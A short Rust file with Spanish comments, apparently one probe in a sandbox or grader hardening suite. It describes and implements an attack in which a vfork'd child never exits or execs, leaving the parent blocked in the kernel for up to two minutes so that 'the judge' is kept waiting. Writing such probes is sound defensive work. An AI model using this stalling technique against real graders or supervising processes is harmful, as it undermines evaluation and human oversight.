//! Ataque: crea un hijo con vfork que ni termina ni se cambia por otro: el padre se queda parado en el núcleo.
//! Paso: paso1
//! Código: TIEMPO
//! Final: si_cuela
//! Colaría si: quien juzga se queda esperando, o no se les puede matar.

use nix::libc;

fn attempt() -> bool {
    let flags = libc::CLONE_VFORK | libc::SIGCHLD;
    let child = unsafe { libc::syscall(libc::SYS_clone, flags, 0, 0, 0, 0) };
    if child == 0 {
        // Acotado: dos minutos.
        unsafe {
            libc::alarm(120);
            loop {
                libc::pause();
            }
        }
    }
    false
}
